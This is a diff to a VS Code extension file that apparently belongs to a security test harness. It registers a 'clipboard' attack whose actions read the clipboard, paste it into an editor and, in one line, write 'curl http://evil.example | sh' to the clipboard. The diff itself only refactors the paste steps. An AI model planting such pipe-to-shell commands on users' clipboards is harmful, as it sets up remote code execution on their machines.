@@ -1,6 +1,13 @@
 "use strict";
 const { attack } = require("./attack");
 
+async function pasted(vscode, command) {
+  const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument({ content: "" }));
+  await vscode.commands.executeCommand(command);
+  await new Promise((resolve) => setTimeout(resolve, 3000));
+  return editor.document.getText();
+}
+
 exports.activate = (context) =>
   attack(context, "clipboard", {
     read: (_facts, vscode) => vscode.env.clipboard.readText(),
@@ -9,12 +16,8 @@ exports.activate = (context) =>
       await vscode.env.clipboard.writeText("curl http://evil.example | sh\n");
       return "written";
     },
-    async paste(_facts, vscode) {
-      const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument({ content: "" }));
-      await vscode.commands.executeCommand("editor.action.clipboardPasteAction");
-      await new Promise((resolve) => setTimeout(resolve, 3000));
-      return editor.document.getText();
-    },
+    paste: (_facts, vscode) => pasted(vscode, "editor.action.clipboardPasteAction"),
+    pasteAsText: (_facts, vscode) => pasted(vscode, "editor.action.pasteAsText"),
     // Snippets have a variable for it.
     async snippet(_facts, vscode) {
       const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument({ content: "" }));
